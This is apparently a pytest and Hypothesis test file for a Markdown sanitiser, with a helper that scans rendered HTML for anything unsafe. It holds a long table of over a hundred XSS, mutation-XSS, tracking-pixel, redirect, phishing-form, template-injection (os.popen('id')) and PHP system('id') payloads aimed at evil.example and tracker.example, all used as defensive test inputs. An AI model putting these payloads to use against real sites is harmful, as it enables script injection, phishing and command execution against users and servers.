"""Nothing a contributor writes in a body runs, frames, tracks, or takes the place of the page around it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zonepress.bodies.rendering import ATTRIBUTES, TAGS, Text, render_body

HERE: Final = "zones/quayside/stories/2026-03-04-wall/index.md"
OURS: Final = {"role": "group", "aria-label": "Table", "tabindex": "0"}
"""What we add ourselves around a wide table."""


class _Tags(HTMLParser):
    """Every element of a page as a browser would see it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"<![{data}]>")


def dangers(html: str) -> list[str]:
    """Everything in clean HTML that has no business there."""
    tags = _Tags()
    tags.feed(html)
    tags.close()
    found = list(tags.other)
    for tag, attributes in tags.found:
        found += [f"<{tag}>"] if tag not in TAGS else []
        found += [f"{name}={value}" for name, value in attributes.items() if not _harmless(tag, name, value)]
    return found


def _harmless(tag: str, name: str, value: str) -> bool:
    """Whether an attribute can do nothing but say what it says."""
    if name == "href":
        return bool(re.match(r"(?:/-root-/(?!/)|#in-|https?://|mailto:|tel:)", value, re.IGNORECASE))
    if name == "src":
        return tag == "img" and value.startswith("/-root-/zones/quayside/stories/2026-03-04-wall/")
    if name == "id":
        return value.startswith("in-")
    if name == "class":
        return value == "pz-scroll" or not re.search(r"(?:^|\s)(?:pz|md|js)(?:-|\s|$)", value)
    if name == "type":
        return tag == "input" and value == "checkbox"
    if name == "aria-label" and tag == "input":
        return value in {"Done", "To do"}
    return name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) or OURS.get(name) == value


def cleaned(markdown: str) -> str:
    """The clean HTML of a body."""
    return render_body(Text(HERE, markdown)).html


HOSTILE: Final = {
    "elements that run": """
        <script>alert(1)</script>
        <SCRIPT SRC=//evil.example/x.js></SCRIPT>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script/x>alert(1)</script>
        <svg onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
        <svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
        <math href="javascript:alert(1)">x</math>
        <object data="javascript:alert(1)"></object>
        <embed src="javascript:alert(1)">
        <applet code=x></applet>
        <template><script>alert(1)</script></template>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
        <xmp><img src=x onerror=alert(1)></xmp>
        <iframe src="https://evil.example"></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <frameset><frame src=x></frameset>
        <portal src="https://evil.example"></portal>
    """,
    "elements that move, ask or cover": """
        <meta http-equiv="refresh" content="0;url=https://evil.example">
        <base href="https://evil.example/">
        <link rel=stylesheet href="https://evil.example/x.css">
        <link rel=prefetch href="https://evil.example/">
        <style>body{display:none}</style>
        <form action="https://evil.example"><input name=password><button>Go</button></form>
        <button formaction="javascript:alert(1)">x</button>
        <input type=image src=x onerror=alert(1)>
        <input type=text name=card autofocus onfocus=alert(1)>
        <input type=hidden form=search name=q>
        <textarea autofocus></textarea>
        <select><option>x</select>
        <isindex action="https://evil.example">
        <dialog open>Your session ended</dialog>
        <marquee onstart=alert(1)>x</marquee>
        <title>Other title</title>
        <body onload=alert(1)>
        <html manifest=x>
        <h1>Another page</h1>
        <nav><main><header>x
        <slot name=x></slot>
        <custom-element onclick=alert(1)></custom-element>
    """,
    "pictures, sound and film": """
        <img src=x onerror=alert(1)>
        <img src="https://tracker.example/pixel.gif">
        <img src="//tracker.example/pixel.gif">
        <img src="\\\\tracker.example\\pixel.gif">
        <img src="data:image/svg+xml,<svg onload=alert(1)>">
        <img src="javascript:alert(1)">
        <img src=wall.png srcset="https://tracker.example/x 2x">
        <img src="../../../../../etc/passwd">
        <img src="/wall.png">
        <img lowsrc=x dynsrc=y src="wall.png" usemap="#m" longdesc="javascript:x">
        <picture><source srcset="https://tracker.example/x"></picture>
        <video src=x poster="https://tracker.example/x" onerror=alert(1)></video>
        <audio src=x autoplay onerror=alert(1)></audio>
        <image src=x onerror=alert(1)>
        <map name=m><area href="javascript:alert(1)"></map>
        <table background="https://tracker.example/x"><tr><td background=x>x</td></tr></table>
        ![x](https://tracker.example/pixel.gif)
        ![x](javascript:alert(1))
        ![x](data:image/png;base64,AAAA)
        ![x](../../../zone.png)
    """,
    "links that run": """
        [x](javascript:alert(1))
        [x](JaVaScRiPt:alert(1))
        [x](<javascript:alert(1)>)
        [x](&#106;avascript:alert(1))
        [x](java&#x09;script:alert(1))
        [x](java&NewLine;script:alert(1))
        [x](\x01javascript:alert(1))
        [x](vbscript:msgbox(1))
        [x](data:text/html,<script>alert(1)</script>)
        [x](file:///etc/passwd)
        [x](blob:https://evil.example/1)
        [x](view-source:x)
        [x](//evil.example)
        [x](\\\\evil.example)
        [x](/\\evil.example)
        [x](////evil.example)
        [x](/%2F/evil.example)
        [x](/.//evil.example)
        [x][1] [1]: javascript:alert(1)
        <javascript:alert(1)>
        <a href="java\tscript:alert(1)">x</a>
        <a href=" javascript:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="#" onclick="alert(1)" ping="https://tracker.example" target=_blank>x</a>
        <a href="https://evil.example" download="x.exe" rel=opener>x</a>
        <a name=main id=main>x</a>
    """,
    "attributes": """
        A paragraph. {: onclick="alert(1)" style="position:fixed;inset:0" }
        [x](https://example.org){ onmouseover="alert(1)" style="color:red" }
        # Heading {: #pz-main .pz-header onclick="alert(1)" }
        # Heading {: id="" class="md-search js-menu" }
        ![x](wall.png){ onerror="alert(1)" srcset="https://tracker.example/x 2x" }
        <p style="background:url(https://tracker.example/x)">x</p>
        <p class="pz-header md-dialog js-x pz" id="search">x</p>
        <p tabindex=1 accesskey=x contenteditable autofocus draggable=true>x</p>
        <div markdown="1" onclick="alert(1)" style="x">x</div>
        <details ontoggle=alert(1) open name=x>x</details>
        <td onclick=alert(1) style=x width=9999>x</td>
        <p data-md-component=dialog data-x=y hidden popover slot=x is=x>x</p>
        <div role=alert aria-live=assertive aria-label="Sign in">x</div>
        <a href="x" onclick
        <p title="x" itemprop=url itemid="javascript:x">x</p>
        <blockquote cite="javascript:alert(1)">x</blockquote>
        <del cite="https://tracker.example" datetime=x>x</del>
        <ol onclick=alert(1) start=3 style=x>x</ol>
    """,
    "doors of Markdown": """
        !!! note "<script>alert(1)</script>"
        ??? note "<img src=x onerror=alert(1)>"
        === "<script>alert(1)</script>"
        *[x]: <script>alert(1)</script>
        [^1]: <script>alert(1)</script>
        /// html | script
        /// html | img[src=x onerror=alert(1)]
        /// caption | <img src=x onerror=alert(1)>
        --8<-- "mkdocs.yml"
        {{ cycler.__init__.__globals__.os.popen("id").read() }}
        {% include "base.html" %}
        ```mermaid graph TD; A[<img src=x onerror=alert(1)>]
        ``` { .python onclick="alert(1)" style="x" title="<script>" }
        `x`{ onclick=alert(1) }
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;script&#62;alert(1)&#60;/script&#62;
        \\<script>alert(1)\\</script>
        <!-- note to self --><!--[if IE]><script>alert(1)</script><![endif]-->
        <![CDATA[<script>alert(1)</script>]]>
        <?php system("id") ?>
        <!DOCTYPE html [<!ENTITY x "y">]>
        \x02klzzwxh:0001\x03 \x02wzxhzdk:0\x03
        "/-root-/" onclick="alert(1)"
        /-root-/"><script>alert(1)</script>
    """,
}
SNIPPETS: Final = [
    pytest.param(line.strip(), id=f"{kind}: {line.strip()[:40]}")
    for kind, block in HOSTILE.items()
    for line in block.strip().split("\n")
]


@pytest.mark.parametrize("snippet", SNIPPETS)
def test_what_runs_is_dropped(snippet: str) -> None:
    """By itself, within a line, below another block, and within the shell of other markup."""
    around = (
        "{}",
        "Words {} and words.",
        "A day.\n\n{}\n\n    words\n\nAnother.",
        "- item\n\n    {}\n\n> {}",
        "| a |\n|---|\n| {} |",
        "<div markdown>\n{}\n</div>",
        "# {}",
    )
    found = {pattern: dangers(cleaned(pattern.replace("{}", snippet))) for pattern in around}
    assert found == {pattern: [] for pattern in around}


@pytest.mark.parametrize(
    "written",
    [
        "/javascript:alert(1)",
        "./javascript:alert(1)//x",
        "./java%73cript:alert(1)",
        "</ javascript:alert(1)>",
        "/data:text/html,x",
        "//evil.example",
    ],
)
def test_an_address_of_ours_is_never_a_protocol(written: str) -> None:
    """Where the way to the root is nothing at all, what follows it would begin the address."""
    body = render_body(Text("content/index.md", f"[x]({written})"))
    assert body.at("") == "<p><a>x</a></p>"


def test_there_are_many_hostile_snippets() -> None:
    """A table that lost its rows would prove nothing."""
    assert len(SNIPPETS) > 110


def test_the_scan_finds_what_it_looks_for() -> None:
    """Without cleaning, every one of these is found."""
    bad = [
        "<script>", "<p onclick=x>", "<p style=x>", "<a href=javascript:x>", "<a href=//x>",
        "<a href='/-root-//x'>", "<img src=https://x>", "<p id=main>", "<p class='a pz-header'>",
        "<!-- x -->", "<input type=text>", "<base>", "<p tabindex=3>", "<?x>", "<!doctype x>",
    ]  # fmt: skip
    assert [html for html in bad if not dangers(html)] == []


def test_pictures_without_an_address_leave_their_words() -> None:
    assert cleaned('a ![Nine brushes](https://tracker.example/x.gif "t") b') == "<p>a Nine brushes b</p>"


_PIECES: Final = st.sampled_from(
    [
        *"<>\"'=/ \n\t&;#()[]{}!*_`\\:|-",
        "<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href=", "javascript:",
        "&#106;avascript:", "<p ", "onclick=alert(1)", "style=x", "<svg>", "<math>", "<style>",
        "<textarea>", "<table>", "<td>", "{: ", " }", "onload=x", "<!--", "-->", "<![CDATA[", "]]>", "```",
        "!!! note ", '"', "/// html | script\n", "///\n", "    ", "<div markdown=1>", "</div>", "[x](",
        "![x](", "wall.png", "//evil.example", "\\", "\x00", "\x02", "\x03", "/-root-/", "<iframe srcdoc=",
        "<form>", "<input ", "type=text", "<base href=x>", "<noscript>", "<title>",
        "| a | b |\n|---|---|\n", "*[x]: ", "[^1]: ", "[^1]", "- [ ] ", "# ", "<h1>", "id=main",
        "class=pz-x",
    ]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=25).map("".join))
def test_no_mixture_of_markup_gets_through(markdown: str) -> None:
    assert dangers(cleaned(markdown)) == []


@given(st.text())
def test_no_text_gets_through(markdown: str) -> None:
    assert dangers(cleaned(markdown.encode("utf-8", "replace").decode())) == []
